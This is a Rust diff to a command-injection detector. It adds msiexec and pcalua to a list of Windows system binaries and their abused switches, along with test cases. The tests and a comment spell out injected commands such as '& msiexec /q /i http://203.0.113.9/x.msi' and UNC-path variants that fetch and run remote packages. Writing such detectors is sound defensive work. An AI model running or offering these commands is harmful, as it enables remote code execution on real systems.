@@ -57,6 +57,10 @@ const SWITCHED: &[(&str, &[&str])] = &[
     ("whoami", &["/all", "/priv", "/groups", "/user"]),
     ("icacls", &[]),
     ("vssadmin", &["delete", "list", "create"]),
+    // Installers and the compatibility assistant run what they are given (`msiexec /q /i
+    // http://…/x.msi`, `pcalua -a \\host\s\x.exe`).
+    ("msiexec", &["/i", "/q", "/x", "/y", "/z", "/a", "/j", "/package", "-i", "-q"]),
+    ("pcalua", &["-a"]),
 ];
 
 /// Commands that are an attack on their own at a command position after a separator.
@@ -404,7 +408,7 @@ fn command(
             if let Some((_, words)) = SWITCHED.iter().find(|(c, _)| c.as_bytes() == base) {
                 let ok = args.iter().any(|a| words.iter().any(|w| a.starts_with(w.as_bytes())) || a.starts_with(b"hk"));
                 if ok {
-                    let lolbin = matches!(base, b"certutil" | b"bitsadmin" | b"regsvr32" | b"wmic" | b"vssadmin");
+                    let lolbin = matches!(base, b"certutil" | b"bitsadmin" | b"regsvr32" | b"wmic" | b"vssadmin" | b"msiexec" | b"pcalua");
                     // Each of these needs its own switch or verb, which prose does not supply.
                     hit(if lolbin { "command-injection:windows-lolbin" } else { "command-injection:windows-cmd" }, true);
                     return None;
@@ -522,6 +526,9 @@ mod tests {
             ";Start-Process calc",
             "| Get-ChildItem -Path C:\\ -Recurse",
             "; Remove-Item $env:TEMP -Recurse",
+            "& msiexec /q /i http://203.0.113.9/x.msi",
+            "& msiexec.exe /q /i \\\\203.0.113.9\\s\\x.msi",
+            "& pcalua.exe -a \\\\203.0.113.9\\s\\x.exe",
         ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
@@ -531,6 +538,7 @@ mod tests {
             "Tom & Jerry",
             "Start-Process is a cmdlet, explain it",
             "Cards; Get-Well soon",
+            "how do I run msiexec on a package",
         ] {
             assert_eq!(level(s), None, "{s}");
         }
